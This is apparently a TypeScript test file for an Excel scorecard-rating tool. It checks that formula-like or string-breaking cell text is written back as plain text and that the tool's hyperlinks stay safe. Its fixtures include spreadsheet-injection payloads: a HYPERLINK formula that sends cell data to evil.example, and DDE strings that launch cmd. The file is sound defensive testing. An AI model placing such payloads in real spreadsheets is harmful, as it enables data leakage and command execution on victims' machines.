/**
 * Hostile text: cell text that starts with =, +, - or @ (or tries to close a formula's string) is written
 * back as text, never as a formula, and the links of the Red flags sheet cannot be broken out of. Checked
 * in the XML Excel will read, not in what ExcelJS makes of it.
 */
import * as fs from 'fs';
import type { Report } from '../../src/scorecard/types';
import { OWNED_SHEETS } from '../../src/workbook/grid';
import { sharedStrings, sheetXmlByName, unescapeXml, xmlCells } from '../support/zip';
import type { XmlCell } from '../support/zip';
import { buildScorecard, HEADER, rateWithCli, tempDir } from './corpus';
import type { MeasureRow } from './corpus';

const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  dde: "+cmd|' /C calc'!A0",
  minus: '-2+3 fewer complaints',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  breakout: 'A1"),HYPERLINK("http://evil.example',
  markup: '<b>&amp;</b> "quoted" \'single\' ]]>',
};
const SHEET = 'Q2 "final" 🚩 it\'s';

/** Red flags need off target now and last quarter: every row here is, so every ref becomes a link. */
function hostileRow(officer: string, ref: string, name: string, notes: string): MeasureRow {
  return { cells: [officer, ref, name, 'Low', 'Quarterly', 300, null, null, 330, 340, 345.8, notes] };
}

describe('hostile text in a scorecard', () => {
  let dir: ReturnType<typeof tempDir>;
  let report: Report;
  let sheets: Map<string, Map<string, XmlCell>>;
  let sheetXml: Map<string, string>;
  let strings: string[];

  beforeAll(async () => {
    dir = tempDir('scorecard-hostile-');
    const header = HEADER.map((h) => (h === 'Outcome' ? 'Lead officer' : h));
    const blocks = [
      {
        section: HOSTILE.formula,
        rows: [
          hostileRow(HOSTILE.dde, HOSTILE.breakout, HOSTILE.formula, HOSTILE.at),
          hostileRow(HOSTILE.minus, '=1+1', HOSTILE.at, HOSTILE.formula),
          hostileRow(HOSTILE.markup, '@A1', HOSTILE.markup, ''),
        ],
      },
      {
        section: HOSTILE.at,
        rows: [
          { cells: ['x', '2.B1', 'A value that looks like a formula', 'High', 'Quarterly', HOSTILE.dde, null, null, 1, 2, HOSTILE.formula, ''] },
          { cells: ['x', '2.B2', 'A target that looks like a formula', 'High', 'Quarterly', HOSTILE.minus, null, null, 1, 2, HOSTILE.minus, ''] },
        ],
      },
    ];
    const input = dir.file('hostile.xlsx');
    fs.writeFileSync(input, await buildScorecard({ header, blocks, edit: (ws) => (ws.name = SHEET) }));
    const run = await rateWithCli(input, dir.file('out.xlsx'), dir.file('report.json'));
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    report = run.report as Report;
    const output = fs.readFileSync(dir.file('out.xlsx'));
    sheetXml = sheetXmlByName(output);
    sheets = new Map([...sheetXml].map(([name, xml]) => [name, xmlCells(xml)]));
    strings = sharedStrings(output);
  });
  afterAll(() => dir.remove());

  function text(cell: XmlCell | undefined): string | undefined {
    if (!cell) return undefined;
    if (cell.type === 's') return strings[Number(cell.value)];
    if (cell.type === 'inlineStr' || cell.type === 'str') return cell.value;
    return undefined;
  }

  it('rates every row, with the hostile text in the report as it was typed', () => {
    expect(report.rows.map((r) => r.ref)).toEqual([HOSTILE.breakout, '=1+1', '@A1', '2.B1', '2.B2']);
    expect(report.redFlags.map((f) => f.ref)).toEqual([HOSTILE.breakout, '=1+1', '@A1']);
    expect(report.summary.byPriority.map((p) => p.priority)).toEqual([HOSTILE.formula, HOSTILE.at]);
  });

  it('writes explanations, statuses and DOT as plain strings: no formula anywhere in the scorecard', () => {
    const cells = sheets.get(SHEET) as Map<string, XmlCell>;
    expect([...cells.values()].filter((c) => c.formula !== undefined)).toEqual([]);
    const explanations = report.rows.map((r) => text(cells.get(`M${r.row}`)));
    expect(explanations).toEqual(report.rows.map((r) => r.explanation));
    expect(explanations.some((e) => e?.includes(HOSTILE.dde))).toBe(true);
  });

  it('writes the Summary and Scorecard rules sheets without a single formula', () => {
    for (const name of [OWNED_SHEETS.summary, OWNED_SHEETS.rules]) {
      const cells = sheets.get(name) as Map<string, XmlCell>;
      expect([name, [...cells.values()].filter((c) => c.formula !== undefined)]).toEqual([name, []]);
    }
    const summaryTexts = [...(sheets.get(OWNED_SHEETS.summary) as Map<string, XmlCell>).values()].map(text);
    expect(summaryTexts).toEqual(expect.arrayContaining([HOSTILE.formula, HOSTILE.at]));
  });

  it('in Red flags no cell is a formula: each link is a hyperlink to the flagged row, its cell the ref as text', () => {
    const cells = sheets.get(OWNED_SHEETS.redFlags) as Map<string, XmlCell>;
    expect([...cells.values()].filter((c) => c.formula !== undefined)).toEqual([]);
    const xml = sheetXml.get(OWNED_SHEETS.redFlags) as string;
    const links = [...xml.matchAll(/<hyperlink ref="([A-Z]+\d+)" location="([^"]*)"/g)].map((m) => ({ ref: m[1], location: unescapeXml(m[2]) }));
    expect(links.map((l) => l.ref)).toEqual(['A2', 'A3', 'A4']);
    report.redFlags.forEach((flag, i) => {
      expect(links[i].location).toBe(`'${SHEET.replace(/'/g, "''")}'!G${flag.row}`);
      expect(text(cells.get(`A${i + 2}`))).toBe(flag.ref);
    });
  });

  it('writes every other Red flags cell as a plain string holding the text as typed', () => {
    const cells = sheets.get(OWNED_SHEETS.redFlags) as Map<string, XmlCell>;
    const flag = report.redFlags[0];
    expect(['B2', 'C2', 'D2', 'K2'].map((a) => text(cells.get(a)))).toEqual([flag.measure, flag.leadOfficer, flag.priority, flag.reason]);
    expect(flag.measure).toBe(HOSTILE.formula);
    expect(flag.leadOfficer).toBe(HOSTILE.dde);
    expect(text(cells.get('C4'))).toBe(HOSTILE.markup);
  });
});
